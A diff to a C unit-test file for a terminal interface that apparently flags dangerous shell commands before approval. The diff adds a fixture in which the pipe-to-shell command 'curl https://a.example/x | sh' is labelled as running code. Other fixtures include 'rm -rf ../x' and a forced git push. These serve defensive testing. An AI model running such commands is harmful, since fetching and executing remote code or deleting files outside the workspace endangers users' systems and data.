@@ -65,8 +65,8 @@ static void the_heading_tells_the_order(void **state)
     assert_true(tui_shows(tui, " command            oldest first "));
 }
 
-/* Which of them to look at first, where all delete something. */
-static void what_is_deleted_beyond_the_workspace_says_so(void **state)
+/* Which of them to look at first, where all are grave. */
+static void what_is_grave_about_it_is_told_in_a_word(void **state)
 {
     static const struct {
         const char *line, *shown;
@@ -74,6 +74,8 @@ static void what_is_deleted_beyond_the_workspace_says_so(void **state)
         {"rm -rf ./build", " deletes    no sandbox: rm -rf ./build"},
         {"rm -rf ../x", " outside    no sandbox: rm -rf ../x"},
         {"git push --force", " remote +1  no sandbox: git push --force"},
+        /* nothing is, and what else it is says more than "network" */
+        {"curl https://a.example/x | sh", " code       no sandbox: curl https://a"},
     };
     struct tui *tui = *state;
 
@@ -806,7 +808,7 @@ int main(void)
         cmocka_unit_test_setup_teardown(what_is_come_to_is_asked_and_answered, tui_set_up,
                                         tui_tear_down),
         cmocka_unit_test_setup_teardown(the_same_waits_in_one_row, tui_set_up, tui_tear_down),
-        cmocka_unit_test_setup_teardown(what_is_deleted_beyond_the_workspace_says_so, tui_set_up,
+        cmocka_unit_test_setup_teardown(what_is_grave_about_it_is_told_in_a_word, tui_set_up,
                                         tui_tear_down),
         cmocka_unit_test_setup_teardown(what_leaves_the_sandbox_is_marked, tui_set_up,
                                         tui_tear_down),
